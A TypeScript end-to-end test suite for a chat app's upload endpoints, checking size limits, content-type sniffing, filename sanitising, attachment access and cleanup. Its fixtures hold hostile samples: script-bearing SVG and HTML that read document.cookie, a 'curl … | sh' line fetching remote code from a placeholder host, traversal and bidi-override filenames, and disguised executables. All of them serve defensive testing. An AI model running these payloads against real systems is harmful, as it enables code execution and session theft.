import { mkdir, mkdtemp, readdir, rm, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PreparedStatements } from '../src/core/database/prepared-statements';
import { UploadsCleanup } from '../src/conversations/uploads/uploads-cleanup.service';
import { createRoom, send } from './support/chat';
import { registerUser, TestUser } from './support/factories';
import { ack, connect, eventually, record } from './support/sockets';
import { withClient } from './support/test-database';
import { API, startTestApp, TestApp } from './support/test-app';
import { binary, EXECUTABLES, MP3_FRAME_HEADER, mp3, noise, png, streamUpload, uploadFile, uploadOk, wav, withBom } from './support/uploads';

const MAX_BYTES = 256 * 1024;

/** Every file under a folder, recursively (what is stored on disk). */
async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

describe('Uploads and attachments (e2e)', () => {
  let t: TestApp;
  let dataDir: string;
  let alice: TestUser;
  let bob: TestUser;
  let eve: TestUser;
  let roomId: string;
  let image: Buffer;

  const stored = () => filesUnder(join(dataDir, 'uploads'));
  const uploadRows = () => withClient(t.databaseUrl, async (c) => (await c.query(`SELECT id FROM uploads`)).rows.map((r) => r.id as string));

  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'parley-uploads-'));
    // The per-user upload limit is tested in uploads-s3.e2e-spec.ts; here alice uploads a lot.
    t = await startTestApp({ DATA_DIR: dataDir, UPLOAD_MAX_BYTES: String(MAX_BYTES), UPLOAD_RATE_LIMIT: '1000' });
    alice = await registerUser(t.http, { username: 'alice' });
    bob = await registerUser(t.http, { username: 'bob' });
    eve = await registerUser(t.http, { username: 'eve' });
    roomId = (await createRoom(t.http, alice, { participants: [bob.id] })).id;
    image = await png(640, 480);
  });
  afterAll(async () => {
    await t.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  describe('GET /uploads/limits', () => {
    it('states the limits POST /uploads applies: the size, the files a message carries, the types and the rate', async () => {
      const res = await t.http.get(`${API}/uploads/limits`).set(alice.auth).expect(200);
      expect(res.body).toEqual({
        max_bytes: MAX_BYTES,
        max_files_per_message: 10,
        allowed_types: expect.arrayContaining(['image/png', 'application/pdf', 'text/plain', 'audio/*', 'video/*']),
        rate_limit: 1000,
        rate_window_seconds: 60,
      });
      // The size stated is the size refused: one byte more is 413, exactly the limit is not.
      await uploadFile(t.http, alice, Buffer.alloc(res.body.max_bytes + 1, 0x61), 'over.txt').expect(413);
      await uploadFile(t.http, alice, Buffer.alloc(res.body.max_bytes, 0x61), 'at.txt').expect(201);
      await t.http.get(`${API}/uploads/limits`).expect(401);
    });
  });

  describe('POST /uploads', () => {
    it('stores an image with its size, dimensions and a thumbnail', async () => {
      const res = await uploadFile(t.http, alice, image, 'holiday photo.png').expect(201);
      expect(res.body).toEqual({
        id: expect.any(String),
        name: 'holiday photo.png',
        content_type: 'image/png',
        size: image.length,
        width: 640,
        height: 480,
        thumbnail_url: `/api/v1/uploads/${res.body.id}/thumbnail`,
        url: `/api/v1/uploads/${res.body.id}/content`,
        created_at: expect.any(String),
      });
      const content = await t.http.get(res.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
      expect(content.headers['content-type']).toBe('image/png');
      expect(content.headers['content-disposition']).toBe('inline; filename="holiday photo.png"');
      expect(content.headers['x-content-type-options']).toBe('nosniff');
      expect(Buffer.compare(content.body as Buffer, image)).toBe(0);
      const thumb = await t.http.get(res.body.thumbnail_url).set(alice.auth).buffer(true).parse(binary).expect(200);
      expect(thumb.headers['content-type']).toBe('image/webp');
      expect((thumb.body as Buffer).subarray(8, 12).toString()).toBe('WEBP');
    });

    it('takes the type from the bytes, not the name, and serves non-images as attachments', async () => {
      const res = await uploadFile(t.http, alice, Buffer.from('minutes of the meeting\n'), 'notes.png').expect(201);
      expect(res.body).toMatchObject({ name: 'notes.txt', content_type: 'text/plain', width: null, height: null, thumbnail_url: null });
      const content = await t.http.get(res.body.url).set(alice.auth).expect(200);
      expect(content.headers['content-type']).toBe('text/plain; charset=utf-8');
      expect(content.headers['content-disposition']).toBe('attachment; filename="notes.txt"');
      await t.http.get(`${API}/uploads/${res.body.id}/thumbnail`).set(alice.auth).expect(404);
    });

    it('refuses a renamed .exe by sniffing its bytes (415 executable_not_allowed), storing nothing', async () => {
      const before = await stored();
      const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
      const res = await uploadFile(t.http, alice, exe, 'slides.pdf').expect(415);
      expect(res.body).toEqual({ detail: 'Executable files are not accepted.', code: 'executable_not_allowed' });
      expect(await stored()).toEqual(before);
      expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]);
    });

    it('never serves SVG or HTML inline: text, an attachment, nosniff and a sandboxing CSP', async () => {
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
      const html = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>');
      for (const [body, name, extension] of [
        [svg, 'logo', 'svg'],
        [html, 'page', 'html'],
      ] as const) {
        const up = await uploadFile(t.http, alice, body, `${name}.${extension}`).expect(201);
        expect(up.body.content_type).not.toMatch(/svg|html/);
        const res = await t.http.get(up.body.url).set(alice.auth).expect(200);
        expect(res.headers['content-type']).not.toMatch(/svg|html/);
        expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}.txt"`);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/);
      }
    });

    it('sanitises file names', async () => {
      const res = await uploadFile(t.http, alice, Buffer.from('x'), '..\\..\\evil<name>?.txt').expect(201);
      expect(res.body.name).toBe('evil_name__.txt');
      const dotted = await uploadFile(t.http, alice, Buffer.from('x'), '...').expect(201);
      expect(dotted.body.name).toBe('file.txt');
      // Control and bidi-override characters arrive percent-encoded (RFC 5987); they are dropped.
      const raw = Buffer.from(
        `--b\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''a%07b%E2%80%AEtxt.exe%00.txt\r\n\r\nhello\r\n--b--\r\n`,
      );
      const encoded = await t.http.post(`${API}/uploads`).set(alice.auth).set('Content-Type', 'multipart/form-data; boundary=b').send(raw);
      expect(encoded.status).toBe(201);
      expect(encoded.body.name).toBe('abtxt.exe.txt');
      const long = await uploadFile(t.http, alice, Buffer.from('x'), `${'é'.repeat(300)}.txt`).expect(201);
      expect(Buffer.byteLength(long.body.name)).toBeLessThanOrEqual(255);
      expect(long.body.name).toMatch(/^é+\.txt$/);
    });

    it('answers 401 without a token, 400 without a file, for an empty file or another field, 415 for a non-multipart body', async () => {
      await t.http.post(`${API}/uploads`).attach('file', Buffer.from('x'), 'a.txt').expect(401);
      const none = await t.http.post(`${API}/uploads`).set(alice.auth).field('name', 'x').expect(400);
      expect(none.body).toEqual({ file: ['No file was submitted.'] });
      const empty = await uploadFile(t.http, alice, Buffer.alloc(0), 'empty.txt').expect(400);
      expect(empty.body).toEqual({ file: ['The submitted file is empty.'] });
      const other = await t.http.post(`${API}/uploads`).set(alice.auth).attach('document', Buffer.from('x'), 'a.txt').expect(400);
      expect(other.body).toEqual({ file: ['Send exactly one file, in the field "file".'] });
      const json = await t.http.post(`${API}/uploads`).set(alice.auth).send({ file: 'x' }).expect(415);
      expect(json.body.code).toBe('unsupported_media_type');
      const broken = await t.http.post(`${API}/uploads`).set(alice.auth).set('Content-Type', 'multipart/form-data').send('--x\r\n').expect(400);
      expect(broken.body.code).toBe('parse_error');
    });

    it('keeps multipart bodies to the upload route: elsewhere they are 415', async () => {
      const res = await t.http.post(`${API}/rooms`).set(alice.auth).field('room_type', 'GROUP').expect(415);
      expect(res.body.code).toBe('unsupported_media_type');
    });

    it('answers 413 at once for a Content-Length over the limit, reading nothing', async () => {
      const res = await streamUpload(t.baseUrl, alice.access, 0, 10 * MAX_BYTES);
      expect(res.status).toBe(413);
      expect(JSON.parse(res.body)).toEqual({ detail: `File too large: at most ${MAX_BYTES} bytes.`, code: 'payload_too_large' });
      // An ordinary client sending the whole body reads the answer too.
      const whole = await uploadFile(t.http, alice, Buffer.alloc(4 * MAX_BYTES, 0x61), 'big.txt').expect(413);
      expect(whole.body.code).toBe('payload_too_large');
    });

    it('answers 413 while an oversized body is still arriving, and stores nothing', async () => {
      const [rowsBefore, filesBefore] = [await uploadRows(), await stored()];
      const total = 40 * MAX_BYTES;
      const res = await streamUpload(t.baseUrl, alice.access, total);
      expect(res.status).toBe(413);
      expect(res.sent).toBeLessThan(total / 2);
      expect(await uploadRows()).toEqual(rowsBefore);
      expect(await stored()).toEqual(filesBefore);
      await eventually(async () => expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]));
    });
  });

  describe('the type is the file’s real type', () => {
    const refused = async (body: Buffer, name: string) => {
      const [rows, files] = [await uploadRows(), await stored()];
      const res = await uploadFile(t.http, alice, body, name);
      expect({ name, status: res.status }).toEqual({ name, status: 415 });
      expect(await uploadRows()).toEqual(rows);
      expect(await stored()).toEqual(files);
      expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]);
      return res.body as { detail: string; code: string };
    };

    it('refuses an MPEG frame header followed by an executable, an ELF binary, random bytes or an HTML page', async () => {
      const html = Buffer.from(`<!doctype html><html><body>${'<script>alert(document.cookie)</script>'.repeat(100)}</body></html>`);
      const files = [
        [EXECUTABLES.pe, 'setup.exe'],
        [EXECUTABLES.elf, 'app'],
        [noise(6000), 'noise.bin'],
        [html, 'page.html'],
      ] as const;
      for (const [rest, name] of files) {
        const body = await refused(Buffer.concat([MP3_FRAME_HEADER, rest]), name);
        expect(body).toEqual({ detail: 'The file is not valid audio/mpeg.', code: 'unsupported_media_type' });
      }
    });

    it('refuses a real MP3 with anything but frames and tags after it, and a WAV cut short', async () => {
      const body = await refused(Buffer.concat([mp3(20), EXECUTABLES.pe]), 'song.mp3');
      expect(body.code).toBe('unsupported_media_type');
      const riffHtml = Buffer.concat([wav(1).subarray(0, 36), Buffer.from('<html><script>alert(1)</script></html>'.repeat(20))]);
      expect((await refused(riffHtml, 'voice.wav')).code).toBe('unsupported_media_type');
    });

    it('accepts real audio (MP3 with ID3 tags, WAV) and names the download after the verified type', async () => {
      const song = mp3(40, { id3: true });
      const up = await uploadFile(t.http, alice, song, 'song.mp3').expect(201);
      expect(up.body).toMatchObject({ name: 'song.mp3', content_type: 'audio/mpeg', size: song.length, thumbnail_url: null });
      const voice = await uploadFile(t.http, alice, wav(1), 'voice note').expect(201);
      expect(voice.body).toMatchObject({ name: 'voice note.wav', content_type: 'audio/wav' });
      const res = await t.http.get(voice.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
      expect(res.headers['content-disposition']).toBe('attachment; filename="voice note.wav"');
      expect(Buffer.compare(res.body as Buffer, wav(1))).toBe(0);
    });

    it('refuses executables whatever they are named or claim to be, with their own code', async () => {
      const script = Buffer.from('#!/bin/sh\ncurl https://example.invalid/x | sh\n');
      const files = [
        [EXECUTABLES.pe, 'slides.pdf'],
        [EXECUTABLES.elf, 'photo.png'],
        [EXECUTABLES.machO, 'song.mp3'],
        [script, 'notes.txt'],
      ] as const;
      for (const [body, name] of files) {
        expect(await refused(body, name)).toEqual({ detail: 'Executable files are not accepted.', code: 'executable_not_allowed' });
      }
    });

    it('reads UTF-16 text with a byte-order mark as text in that encoding: HTML in it is a text/plain download named .txt', async () => {
      const page = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
      for (const encoding of ['utf-16le', 'utf-16be'] as const) {
        const body = withBom(page, encoding);
        const up = await uploadFile(t.http, alice, body, 'page.html').expect(201);
        expect(up.body).toMatchObject({ name: 'page.txt', content_type: `text/plain; charset=${encoding}` });
        const res = await t.http.get(up.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
        expect(res.headers['content-type']).toBe(`text/plain; charset=${encoding}`);
        expect(res.headers['content-disposition']).toBe('attachment; filename="page.txt"');
        expect(Buffer.compare(res.body as Buffer, body)).toBe(0);
      }
      // No browser decodes UTF-32 (the WHATWG Encoding Standard has no such decoder): not text, so not accepted.
      const utf32 = await refused(withBom(page, 'utf-32le'), 'page.html');
      expect(utf32).toEqual({ detail: 'Files of type application/octet-stream are not accepted.', code: 'unsupported_media_type' });
    });

    it('stores SVG and XML, with or without an XML declaration, as text/plain downloads named .txt', async () => {
      const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
      const files = [
        [`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`, 'logo.svg', 'logo.txt'],
        [svg, 'icon.svg', 'icon.txt'],
        ['<?xml version="1.0"?>\n<config><debug>true</debug></config>', 'config.xml', 'config.txt'],
      ] as const;
      for (const [text, name, downloadName] of files) {
        const up = await uploadFile(t.http, alice, Buffer.from(text), name).expect(201);
        expect(up.body).toMatchObject({ name: downloadName, content_type: 'text/plain' });
        const res = await t.http.get(up.body.url).set(alice.auth).expect(200);
        expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
        expect(res.headers['content-disposition']).toBe(`attachment; filename="${downloadName}"`);
      }
    });

    it('gives every download a name whose extension matches the verified type, keeping the base name', async () => {
      const cases = [
        [image, 'setup.exe', 'setup.png', 'inline'],
        [image, 'photo', 'photo.png', 'inline'],
        [Buffer.from('a,b\n1,2\n'), 'data.csv', 'data.csv', 'attachment'],
        [Buffer.from('echo hi'), 'run.bat', 'run.txt', 'attachment'],
        [Buffer.from('x'), '...', 'file.txt', 'attachment'],
      ] as const;
      for (const [body, name, downloadName, disposition] of cases) {
        const up = await uploadFile(t.http, alice, body, name).expect(201);
        expect({ name, stored: up.body.name }).toEqual({ name, stored: downloadName });
        const res = await t.http.get(up.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
        expect(res.headers['content-disposition']).toBe(`${disposition}; filename="${downloadName}"`);
      }
    });
  });

  describe('GET /uploads/{id}, /content, /thumbnail', () => {
    it('shows an unattached upload to its uploader only (404 for anyone else), 404 unknown, 400 malformed', async () => {
      const up = await uploadOk(t.http, alice, image, 'a.png');
      await t.http.get(`${API}/uploads/${up.id}`).set(alice.auth).expect(200);
      await t.http.get(`${API}/uploads/${up.id}/content`).set(bob.auth).expect(404);
      await t.http.get(`${API}/uploads/${up.id}`).expect(401);
      const unknown = await t.http.get(`${API}/uploads/0190a000-0000-7000-8000-000000000000/content`).set(alice.auth).expect(404);
      expect(unknown.body.code).toBe('upload_not_found');
      await t.http.get(`${API}/uploads/nope/content`).set(alice.auth).expect(400);
    });

    it('lets readers of the room download an attached file; an outsider gets 403 by id', async () => {
      const up = await uploadOk(t.http, alice, image, 'a.png');
      await send(t.http, alice, roomId, 'see attached', { attachments: [up.id] });
      await t.http.get(`${API}/uploads/${up.id}/content`).set(bob.auth).expect(200);
      await t.http.get(`${API}/uploads/${up.id}/thumbnail`).set(bob.auth).expect(200);
      const outsider = await t.http.get(`${API}/uploads/${up.id}/content`).set(eve.auth).expect(403);
      expect(outsider.body.code).toBe('room_access_denied');
      await t.http.get(`${API}/uploads/${up.id}/thumbnail`).set(eve.auth).expect(403);
      await t.http.get(`${API}/uploads/${up.id}`).set(eve.auth).expect(403);
    });
  });

  describe('messages with attachments', () => {
    it('carries them in order on the send, the message, history and sync', async () => {
      const first = await uploadOk(t.http, alice, image, 'one.png');
      const second = await uploadOk(t.http, alice, Buffer.from('two'), 'two.txt');
      const res = await t.http
        .post(`${API}/rooms/${roomId}/messages`)
        .set(alice.auth)
        .send({ content: 'two files', attachments: [second.id, first.id] })
        .expect(201);
      expect(res.body.attachments).toEqual([second, first]);
      const one = await t.http.get(`${API}/rooms/${roomId}/messages/${res.body.id}`).set(bob.auth).expect(200);
      expect(one.body.attachments).toEqual([second, first]);
      const history = await t.http.get(`${API}/rooms/${roomId}/messages`).set(bob.auth).expect(200);
      const inHistory = history.body.results.find((m: { id: string }) => m.id === res.body.id);
      expect(inHistory.attachments).toEqual([second, first]);
      expect(history.body.results.every((m: { attachments: unknown }) => Array.isArray(m.attachments))).toBe(true);
      const socket = await connect(t.baseUrl, bob.access);
      try {
        const synced = await ack<{ rooms: Record<string, { messages: { id: string; attachments: unknown[] }[] }> }>(socket, 'sync', {
          rooms: { [roomId]: res.body.seq - 1 },
        });
        expect(synced.data!.rooms[roomId].messages[0]).toMatchObject({ id: res.body.id, attachments: [second, first] });
      } finally {
        socket.close();
      }
    });

    it('reads a whole history page’s attachments and the reader’s own reactions in the page’s own statement', async () => {
      const room = (await createRoom(t.http, alice)).id;
      for (let i = 0; i < 3; i += 1) {
        const up = await uploadOk(t.http, alice, Buffer.from(`file ${i}`), `${i}.txt`);
        const message = await send(t.http, alice, room, `message ${i}`, { attachments: [up.id] });
        if (i === 1) await t.http.put(`${API}/rooms/${room}/messages/${message.id}/reactions/👍`).set(alice.auth).expect(200);
      }
      const reads = t.app.get(PreparedStatements);
      const rows = reads.rows;
      const statements: string[] = [];
      reads.rows = ((text: string, values: unknown[], options?: { genericPlan?: boolean }) => {
        statements.push(text);
        return rows.call(reads, text, values, options);
      }) as typeof rows;
      try {
        const history = await t.http.get(`${API}/rooms/${room}/messages`).set(alice.auth).expect(200);
        expect(history.body.results.filter((m: { attachments: unknown[] }) => m.attachments.length === 1)).toHaveLength(3);
        const sent = history.body.results.filter((m: { content: string }) => m.content.startsWith('message '));
        expect(sent.map((m: { reactions: unknown[] }) => m.reactions)).toEqual([[], [{ emoji: '👍', count: 1, me: true }], []]);
        const extra = statements.filter((text) => /FROM (uploads|message_reactions)/.test(text));
        expect(extra).toHaveLength(1);
        expect(extra[0]).toMatch(/FROM messages m/); // the page itself
      } finally {
        reads.rows = rows;
      }
    });

    it('sends over the socket too: the ack and message:new carry them; content may be empty with files', async () => {
      const up = await uploadOk(t.http, bob, image, 'b.png');
      const [aliceSocket, bobSocket] = await Promise.all([connect(t.baseUrl, alice.access), connect(t.baseUrl, bob.access)]);
      try {
        const seen = record<{ id: string; attachments: unknown[] }>(aliceSocket, 'message:new');
        const sent = await ack<{ id: string; attachments: { id: string }[]; content: string }>(bobSocket, 'message:send', {
          room_id: roomId,
          attachments: [up.id],
        });
        expect(sent.ok).toBe(true);
        expect(sent.data).toMatchObject({ content: '', attachments: [up] });
        await eventually(() => expect(seen.find((m) => m.id === sent.data!.id)?.attachments).toEqual([up]));
        const taken = await ack(bobSocket, 'message:send', { room_id: roomId, content: 'again', attachments: [up.id] });
        expect(taken.error).toMatchObject({ code: 'attachment_unavailable' });
        for (const attachments of ['x', [null], [{ id: up.id }], Array(11).fill(up.id)]) {
          const bad = await ack(bobSocket, 'message:send', { room_id: roomId, content: 'bad', attachments });
          expect(bad.ok).toBe(false);
          expect(bad.error?.fields).toHaveProperty('attachments');
        }
      } finally {
        aliceSocket.close();
        bobSocket.close();
      }
    });

    it('answers 409 for someone else’s or an already attached upload, writing nothing', async () => {
      const alices = await uploadOk(t.http, alice, image, 'a.png');
      const bobs = await uploadOk(t.http, bob, image, 'b.png');
      const before = (await t.http.get(`${API}/rooms/${roomId}`).set(alice.auth)).body.message_count;
      const foreign = await t.http
        .post(`${API}/rooms/${roomId}/messages`)
        .set(alice.auth)
        .send({ content: 'mine?', attachments: [alices.id, bobs.id] })
        .expect(409);
      expect(foreign.body.code).toBe('attachment_unavailable');
      expect((await t.http.get(`${API}/rooms/${roomId}`).set(alice.auth)).body.message_count).toBe(before);
      await send(t.http, alice, roomId, 'first', { attachments: [alices.id] });
      const again = await t.http
        .post(`${API}/rooms/${roomId}/messages`)
        .set(alice.auth)
        .send({ content: 'twice', attachments: [alices.id] });
      expect(again.status).toBe(409);
    });

    it('answers a retry with the same client_message_id with the first message and its files (200)', async () => {
      const up = await uploadOk(t.http, alice, image, 'a.png');
      const body = { content: 'retry me', client_message_id: 'retry-with-file', attachments: [up.id] };
      const first = await t.http.post(`${API}/rooms/${roomId}/messages`).set(alice.auth).send(body).expect(201);
      const retry = await t.http.post(`${API}/rooms/${roomId}/messages`).set(alice.auth).send(body).expect(200);
      expect(retry.body).toEqual(first.body);
    });

    it('answers 400 for unknown ids, more than 10, duplicates, non-UUIDs, and a blank message without files', async () => {
      const url = `${API}/rooms/${roomId}/messages`;
      const unknown = await t.http
        .post(url)
        .set(alice.auth)
        .send({ content: 'x', attachments: ['0190a000-0000-7000-8000-000000000000'] })
        .expect(400);
      expect(unknown.body).toEqual({ attachments: ['Invalid pk "0190a000-0000-7000-8000-000000000000" - object does not exist.'] });
      const ids = Array.from({ length: 11 }, (_, i) => `0190a000-0000-7000-8000-0000000000${String(i).padStart(2, '0')}`);
      await t.http.post(url).set(alice.auth).send({ content: 'x', attachments: ids }).expect(400);
      await t.http
        .post(url)
        .set(alice.auth)
        .send({ content: 'x', attachments: [ids[0], ids[0]] })
        .expect(400);
      await t.http
        .post(url)
        .set(alice.auth)
        .send({ content: 'x', attachments: ['nope', 5] })
        .expect(400);
      await t.http.post(url).set(alice.auth).send({ content: 'x', attachments: 'nope' }).expect(400);
      const blank = await t.http.post(url).set(alice.auth).send({ content: '  ', attachments: [] }).expect(400);
      expect(blank.body).toEqual({ content: ['This field may not be blank.'] });
    });

    it('answers 403 when a non-member attaches to a room, keeping the upload attachable', async () => {
      const up = await uploadOk(t.http, eve, image, 'e.png');
      await t.http
        .post(`${API}/rooms/${roomId}/messages`)
        .set(eve.auth)
        .send({ content: 'hi', attachments: [up.id] })
        .expect(403);
      const own = (await createRoom(t.http, eve)).id;
      await send(t.http, eve, own, 'mine', { attachments: [up.id] });
    });
  });

  describe('removal', () => {
    it('deletes a message’s files with the message', async () => {
      const up = await uploadOk(t.http, alice, image, 'gone.png');
      const message = await send(t.http, alice, roomId, 'soon gone', { attachments: [up.id] });
      expect((await stored()).filter((f) => f.includes(up.id))).toHaveLength(2);
      await t.http.delete(`${API}/rooms/${roomId}/messages/${message.id}`).set(alice.auth).expect(204);
      expect((await stored()).filter((f) => f.includes(up.id))).toEqual([]);
      expect(await uploadRows()).not.toContain(up.id);
      await t.http.get(`${API}/uploads/${up.id}/content`).set(alice.auth).expect(404);
      const tombstone = await t.http.get(`${API}/rooms/${roomId}/messages/${message.id}`).set(alice.auth).expect(200);
      expect(tombstone.body.attachments).toEqual([]);
    });

    it('deletes the files of a message a moderator removes by resolving a report', async () => {
      const up = await uploadOk(t.http, bob, image, 'reported.png');
      const message = await send(t.http, bob, roomId, 'offensive picture', { attachments: [up.id] });
      const report = await t.http
        .post(`${API}/rooms/${roomId}/messages/${message.id}/report`)
        .set(alice.auth)
        .send({ reason: 'harassment' })
        .expect(201);
      await t.http.post(`${API}/moderation/reports/${report.body.id}/resolve`).set(alice.auth).send({ action: 'delete_message' }).expect(200);
      expect((await stored()).filter((f) => f.includes(up.id))).toEqual([]);
      expect(await uploadRows()).not.toContain(up.id);
      await t.http.get(`${API}/uploads/${up.id}/content`).set(bob.auth).expect(404);
    });

    it('cleans up uploads never attached after the TTL, and files of deleted rooms, keeping the rest', async () => {
      const cleanup = t.app.get(UploadsCleanup);
      const fresh = await uploadOk(t.http, alice, image, 'fresh.png');
      const stale = await uploadOk(t.http, alice, image, 'stale.png');
      const kept = await uploadOk(t.http, alice, image, 'kept.png');
      await send(t.http, alice, roomId, 'keep', { attachments: [kept.id] });
      const doomedRoom = (await createRoom(t.http, bob)).id;
      const inRoom = await uploadOk(t.http, bob, image, 'room.png');
      await send(t.http, bob, doomedRoom, 'bye', { attachments: [inRoom.id] });
      await t.http.delete(`${API}/rooms/${doomedRoom}`).set(bob.auth).expect(204);
      await withClient(t.databaseUrl, (c) => c.query(`UPDATE uploads SET created_at = now() - interval '25 hours' WHERE id = $1`, [stale.id]));

      await expect(cleanup.runOnce()).resolves.toBeGreaterThanOrEqual(2);
      const rows = await uploadRows();
      expect(rows).toEqual(expect.arrayContaining([fresh.id, kept.id]));
      expect(rows).not.toContain(stale.id);
      expect(rows).not.toContain(inRoom.id);
      const files = await stored();
      expect(files.some((f) => f.includes(stale.id) || f.includes(inRoom.id))).toBe(false);
      expect(files.some((f) => f.includes(kept.id))).toBe(true);
      await t.http.get(`${API}/uploads/${kept.id}/content`).set(bob.auth).expect(200);
    });

    it('lets several nodes clean up at once: a row another node holds is skipped, not waited for', async () => {
      const cleanup = t.app.get(UploadsCleanup);
      const [held, free] = [await uploadOk(t.http, alice, image, 'held.png'), await uploadOk(t.http, alice, image, 'free.png')];
      await withClient(t.databaseUrl, async (otherNode) => {
        await otherNode.query(`UPDATE uploads SET created_at = now() - interval '25 hours' WHERE id = ANY($1::uuid[])`, [[held.id, free.id]]);
        await otherNode.query('BEGIN');
        await otherNode.query(`SELECT id FROM uploads WHERE id = $1 FOR UPDATE`, [held.id]); // another node's claim
        await expect(cleanup.runOnce()).resolves.toBe(1);
        expect(await uploadRows()).toContain(held.id);
        expect(await uploadRows()).not.toContain(free.id);
        await otherNode.query('ROLLBACK');
      });
      await expect(cleanup.runOnce()).resolves.toBe(1);
      expect(await uploadRows()).not.toContain(held.id);
    });

    it('removes temporary files left by an interrupted upload after an hour, not younger ones', async () => {
      const tempDir = join(dataDir, 'uploads-tmp');
      await mkdir(tempDir, { recursive: true });
      await writeFile(join(tempDir, 'left-by-a-crash'), 'partial');
      await writeFile(join(tempDir, 'in-progress'), 'partial');
      const twoHoursAgo = new Date(Date.now() - 2 * 3600 * 1000);
      await utimes(join(tempDir, 'left-by-a-crash'), twoHoursAgo, twoHoursAgo);
      await t.app.get(UploadsCleanup).runOnce();
      expect(await readdir(tempDir)).toEqual(['in-progress']);
      await rm(join(tempDir, 'in-progress'));
    });
  });
});
